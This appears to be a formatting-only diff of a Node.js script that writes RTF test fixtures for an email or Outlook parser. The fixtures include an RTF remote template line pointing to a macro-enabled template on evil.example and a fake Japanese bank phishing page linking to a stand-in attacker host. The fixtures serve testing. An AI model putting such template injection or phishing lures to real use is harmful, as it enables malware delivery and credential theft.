@@ -4,14 +4,16 @@ import { execFileSync } from 'node:child_process'
 import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { cp932, utf8 } from '../outlook/message-file.mjs'
 import { PHISH_HTML, PNG } from '../outlook/items.mjs'
+import { cp932, utf8 } from '../outlook/message-file.mjs'
 import { rtfFromHtml } from '../outlook/rtf.mjs'
 
 const write = (name, rtf) => writeFileSync(new URL(`${name}.rtf`, import.meta.url), rtf, 'latin1')
 const hex = (bytes) => Buffer.from(bytes).toString('hex')
-const bytes = (text) => [...cp932(text)].map((byte) => (byte < 0x80 ? String.fromCharCode(byte).replace(/[\\{}]/g, '\\$&') : `\\'${hex([byte])}`)).join('')
-const HEAD = '{\\rtf1\\ansi\\ansicpg932\\deff0\\uc1{\\fonttbl{\\f0\\fnil\\fcharset128 MS Mincho;}{\\f1\\fswiss\\fcharset0 Arial;}}\n{\\info{\\title x}{\\author y}}\n'
+const bytes = (text) =>
+  [...cp932(text)].map((byte) => (byte < 0x80 ? String.fromCharCode(byte).replace(/[\\{}]/g, '\\$&') : `\\'${hex([byte])}`)).join('')
+const HEAD =
+  '{\\rtf1\\ansi\\ansicpg932\\deff0\\uc1{\\fonttbl{\\f0\\fnil\\fcharset128 MS Mincho;}{\\f1\\fswiss\\fcharset0 Arial;}}\n{\\info{\\title x}{\\author y}}\n'
 
 /** Length and bytes, with a zero at the end ([MS-OLEDS] 2.1.4). */
 function sized(text) {
@@ -27,7 +29,15 @@ const embedded = (className, native) =>
   Buffer.concat([number(0x501), number(2), sized(className), number(0), number(0), number(native.length), Buffer.from(native)])
 function packed(name, content) {
   const zeroEnded = (text) => Buffer.concat([Buffer.from(cp932(text)), Buffer.from([0])])
-  return Buffer.concat([Buffer.from([2, 0]), zeroEnded(name), zeroEnded(`C:\\x\\${name}`), Buffer.from([0, 0, 3, 0]), sized(`C:\\x\\${name}`), number(content.length), Buffer.from(content)])
+  return Buffer.concat([
+    Buffer.from([2, 0]),
+    zeroEnded(name),
+    zeroEnded(`C:\\x\\${name}`),
+    Buffer.from([0, 0, 3, 0]),
+    sized(`C:\\x\\${name}`),
+    number(content.length),
+    Buffer.from(content),
+  ])
 }
 const lines = (digits) => digits.replace(/.{1,64}/g, '$&\n')
 
@@ -49,13 +59,27 @@ write(
 )
 write('template', `${HEAD}{\\*\\template https://evil.example/t.dotm}${bytes('読み込み中です。')}\\par}\n`)
 write('packed-html', rtfFromHtml(PHISH_HTML))
-write('packed-text', `{\\rtf1\\ansi\\ansicpg932\\fromtext \\deff0{\\fonttbl{\\f0\\fcharset128 MS Gothic;}}\\f0 ${bytes('こんにちは')}\\par https://evil.example/\\par}`)
+write(
+  'packed-text',
+  `{\\rtf1\\ansi\\ansicpg932\\fromtext \\deff0{\\fonttbl{\\f0\\fcharset128 MS Gothic;}}\\f0 ${bytes('こんにちは')}\\par https://evil.example/\\par}`,
+)
 write('cut', `${HEAD}${bytes('途中で')} {\\b ${bytes('切れて')}`)
 
 const folder = mkdtempSync(join(tmpdir(), 'rtf-'))
 try {
-  writeFileSync(join(folder, 'libreoffice.html'), `<html><meta charset="utf-8"><p>雨宿銀行 髙橋様 ①</p><p><a href="https://amayado.evil.example/?q=%E3%81%82">手続きはこちら</a></p><table><tr><td>金額</td><td>1,000円</td></tr></table></html>`)
-  execFileSync('soffice', [`-env:UserInstallation=file://${folder}/profile`, '--headless', '--convert-to', 'rtf:Rich Text Format', '--outdir', folder, join(folder, 'libreoffice.html')])
+  writeFileSync(
+    join(folder, 'libreoffice.html'),
+    `<html><meta charset="utf-8"><p>雨宿銀行 髙橋様 ①</p><p><a href="https://amayado.evil.example/?q=%E3%81%82">手続きはこちら</a></p><table><tr><td>金額</td><td>1,000円</td></tr></table></html>`,
+  )
+  execFileSync('soffice', [
+    `-env:UserInstallation=file://${folder}/profile`,
+    '--headless',
+    '--convert-to',
+    'rtf:Rich Text Format',
+    '--outdir',
+    folder,
+    join(folder, 'libreoffice.html'),
+  ])
   copyFileSync(join(folder, 'libreoffice.rtf'), new URL('libreoffice.rtf', import.meta.url))
 } finally {
   rmSync(folder, { recursive: true })
